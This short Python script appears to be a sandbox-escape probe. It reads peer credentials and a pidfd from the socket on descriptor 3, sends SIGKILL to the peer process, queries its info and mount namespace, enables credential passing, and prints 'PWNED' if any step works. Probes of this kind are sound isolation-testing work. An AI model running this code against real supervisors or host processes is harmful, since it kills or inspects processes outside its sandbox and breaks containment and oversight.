"""Asks the wire who is at its other end, for a descriptor of that process, and signals it and looks at it by that."""
import fcntl
import os
import signal
import socket
import struct

found = []
wire = socket.socket(fileno=3)
# SO_PEERCRED, SO_PEERGROUPS, SO_PEERSEC, SO_PEERPIDFD
for option, size in ((17, 12), (59, 64), (31, 64), (77, 4)):
    try:
        data = wire.getsockopt(socket.SOL_SOCKET, option, size)
    except OSError:
        continue
    found.append((option, data))
    if option == 77:
        fd = struct.unpack("i", data)[0]
        for step in (
            lambda: signal.pidfd_send_signal(fd, signal.SIGKILL),
            lambda: fcntl.ioctl(fd, 0xC048FF0B, bytearray(72)),  # PIDFD_GET_INFO
            lambda: fcntl.ioctl(fd, 0xFF03, 0),  # PIDFD_GET_MNT_NAMESPACE
        ):
            try:
                found.append(step())
            except OSError as error:
                found.append(error.errno)
# SO_PASSCRED, SO_PASSPIDFD: have the sender told with each message
for option in (16, 76):
    try:
        wire.setsockopt(socket.SOL_SOCKET, option, 1)
        found.append(option)
    except OSError:
        continue
wire.detach()
print("TRIED", os.getpid(), found)
if found:
    print("PWN" + "ED")
